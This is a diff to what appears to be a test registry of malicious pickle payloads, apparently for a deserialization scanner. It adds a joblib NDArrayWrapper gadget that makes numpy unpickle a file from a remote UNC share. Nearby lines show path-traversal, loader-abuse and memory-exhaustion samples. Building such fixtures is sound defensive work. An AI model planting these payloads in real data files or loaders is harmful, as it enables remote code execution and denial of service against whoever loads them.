@@ -131,6 +131,10 @@ _register("torch_bytes_utf8", Assembler(2).call("torch.storage", "_load_from_byt
 _register("spacy_doc_bytes", _a().call("spacy.tokens.doc", "unpickle_doc", None, _TEXT, b""))
 _register("codec_by_path", Assembler(2).call("_codecs", "encode", "x", "../../evil"))
 
+# An array of old joblib, which numpy loads with pickles allowed from a file of the attacker's choice
+_ELSEWHERE = {"filename": "\\\\server\\share\\weights.npy", "subclass": _g("numpy", "ndarray"), "allow_mmap": False}
+_register("joblib_array_elsewhere", _a().name("joblib.numpy_pickle_compat", "NDArrayWrapper").push(()).op("NEWOBJ").push(_ELSEWHERE).op("BUILD"))
+
 # Sizes, and decoys
 _register("endless_deque", _a().call("collections", "deque", _a().call("itertools", "count")))
 _register("huge_bytes_second", _a().push([_a().call("builtins", "bytes", size) for size in (5, 1 << 40)]))
